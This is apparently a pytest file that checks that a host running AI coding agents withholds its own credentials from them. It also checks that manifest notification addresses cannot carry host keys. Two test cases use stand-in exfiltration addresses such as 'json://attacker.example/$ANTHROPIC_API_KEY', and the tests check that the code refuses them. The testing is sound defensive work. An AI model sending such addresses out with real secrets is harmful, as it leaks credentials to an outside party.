"""A host keeps its own credentials from its agents."""

from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import msgspec
import pytest

from rekindle import config
from rekindle.documents.launches.launch_credentials import HostCredentials
from rekindle.errors import CredentialsError, ManifestError
from rekindle.fleet.agent.host_orders import HostOrder
from rekindle.fleet.hosts import activities
from rekindle.fleet.pipelines import pipeline_activities
from rekindle.fleet.schedules.schedule_activities import ScheduleActivities
from rekindle.policy.fleet.agent_registry import AgentDefinition
from rekindle.policy.redact.redaction import Redaction
from rekindle.policy.schedules.schedule_record import ScheduleOutcome
from rekindle.system import notifications
from rekindle.system.notifications import Notifier
from rekindle.wiring.agent_environment import make_environment
from rekindle.wiring.credential_setup import make_host_notifier, require_helper

NOW = datetime(2026, 5, 4, 12, tzinfo=UTC)
MANIFEST = """\
version: 1
agents:
  trades: {{harness: claude-code, prompt: PROMPT.md, env: {env}}}
"""
HOST = {
    "PATH": "/usr/bin",
    "ANTHROPIC_API_KEY": "sk-host",
    "AWS_SECRET_ACCESS_KEY": "sk-host",
    "CLAUDE_CODE_USE_BEDROCK": "1",
    "ANTHROPIC_MODEL": "sonnet",
    "SSH_AUTH_SOCK": "/run/agent",
    "GIT_ASKPASS": "/usr/bin/askpass",
    "GIT_CONFIG_COUNT": "1",
}
GIT = {"SSH_AUTH_SOCK", "GIT_ASKPASS", "GIT_CONFIG_COUNT"}


@pytest.fixture
def make(tmp_path, monkeypatch):
    def make_variables(credentials, env="{}"):
        (tmp_path / "rekindle.yaml").write_text(MANIFEST.format(env=env))
        (tmp_path / "PROMPT.md").write_text("work")
        for name, value in HOST.items():
            monkeypatch.setenv(name, value)
        project = config.load_project(tmp_path)
        project = msgspec.structs.replace(project, credentials=credentials)
        passed = make_environment(project, "trades").variables
        return {name: passed[name] for name in HOST if name in passed}

    return make_variables


def test_on_a_laptop_the_agent_has_the_users_credentials(make):
    assert make(None).keys() == HOST.keys() - {"GIT_ASKPASS", "GIT_CONFIG_COUNT"}


def test_on_a_host_git_credentials_stay_with_the_worker(make):
    assert make(HostCredentials()).keys() == HOST.keys() - GIT


def test_with_a_helper_no_credential_of_the_host_is_passed_on(make):
    assert make(HostCredentials("/bin/helper")).keys() == {"PATH", "ANTHROPIC_MODEL"}


@pytest.mark.parametrize("variable", ["ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY"])
def test_with_a_helper_the_manifest_cannot_name_a_credential_of_the_host(make, variable):
    env = f"{{MINE: ${variable}}}"
    assert make(HostCredentials(), env)
    with pytest.raises(ManifestError, match="which this host does not pass on") as refused:
        make(HostCredentials("/bin/helper"), env)
    assert "let /bin/helper print it" in refused.value.hint
    assert make(HostCredentials("/bin/helper"), "{MINE: $ANTHROPIC_MODEL, OWN: sk-own}")


def test_with_a_helper_the_manifest_cannot_name_an_address_with_a_password(make, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgres://ann:secret@db.example.org/shop")
    monkeypatch.setenv("DOCS_URL", "https://docs.example.org:8080/@ann")
    env = "{MINE: $DATABASE_URL}"
    assert make(HostCredentials(), env)
    with pytest.raises(ManifestError, match="names \\$DATABASE_URL, which this host does not pass"):
        make(HostCredentials("/bin/helper"), env)
    assert make(HostCredentials("/bin/helper"), "{MINE: $DOCS_URL}")


def test_a_helper_is_an_executable_outside_the_agents_folder(tmp_path):
    (program := tmp_path / "helper").write_text("#!/bin/sh\n")
    with pytest.raises(CredentialsError, match="is not an executable program"):
        require_helper(str(program), tmp_path / "agents")
    program.chmod(0o755)
    assert require_helper(str(program), tmp_path / "agents") == str(program.resolve())
    with pytest.raises(CredentialsError, match="in the folder for the agents"):
        require_helper(str(program), tmp_path)


@pytest.mark.parametrize("name", ["REKINDLE_FLEET_KEY", "GIT_ASKPASS"])
def test_no_agent_gets_the_keys_of_a_host_without_a_helper_either(make, monkeypatch, name):
    monkeypatch.setenv(name, "secret")
    make(None, f"{{A: ${name}}}")
    with pytest.raises(ManifestError, match="belongs to the host"):
        make(HostCredentials(), f"{{A: ${name}}}")


@pytest.fixture
def asked(monkeypatch):
    """Record the addresses that apprise would get."""
    addresses = []

    def ask(_notifier, message):
        addresses.extend(message["urls"])
        return {number: "sent" for number, url in enumerate(message["urls"]) if url}

    monkeypatch.setattr(notifications, "find_spec", lambda _: True)
    monkeypatch.setattr(Notifier, "_ask_process", ask)
    for name in ("ALERTS", "ANTHROPIC_API_KEY", "REKINDLE_FLEET_KEY", "GIT_CONFIG_COUNT"):
        monkeypatch.setenv(name, f"json://value-of-{name}")
    return addresses


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("json://attacker.example/$ALERTS", "may contain only variables"),
        ("ntfys://$ANTHROPIC_API_KEY", "$ANTHROPIC_API_KEY is named like a key of the host"),
        ("json://$ALERTS/${REKINDLE_FLEET_KEY}", "$REKINDLE_FLEET_KEY is named like a key"),
        ("$GIT_CONFIG_COUNT", "$GIT_CONFIG_COUNT is named like a key"),
    ],
)
def test_a_host_sends_none_of_its_keys_to_an_address_of_the_manifest(asked, address, reason):
    [failure, missing] = make_host_notifier([address, "$ALERTS", "$GONE"], Redaction()).send("", "")
    assert "address 1 of `notify:`" in failure
    assert reason in failure
    assert "$GONE is not set" in missing
    assert asked == ["", "json://value-of-ALERTS", ""]


def test_a_host_resolves_no_key_in_a_definition_from_another_client(asked):
    """Only the client has checked the manifest that the engine stores."""
    manifest = "version: 1\nagents: {trades: {harness: claude-code}}\nnotify: [%s]\n"
    definition = AgentDefinition(
        manifest=manifest % "'json://attacker.example/$ANTHROPIC_API_KEY'",
        pool="p",
        heartbeat_seconds=5,
        notifies=True,
    )
    order = HostOrder("shops/trades", "trades", 1)
    [failure] = activities._send_notification(definition, order, "auth", "words", "tower")
    assert "may contain only variables" in failure
    run = SimpleNamespace(
        registered=SimpleNamespace(agent=definition),
        definition=SimpleNamespace(pipeline="ship", run=1),
    )
    pipeline_activities._notify(run, "failed", "words")
    scheduled = SimpleNamespace(
        name="trades",
        make_rules=lambda: SimpleNamespace(times=SimpleNamespace(zone=UTC)),
    )
    outcome = ScheduleOutcome(kind="skipped", first=NOW, last=NOW, at=NOW)
    ScheduleActivities(None, Path(), "tower", None)._notify(scheduled, definition, [outcome])
    assert asked == ["", "", ""]
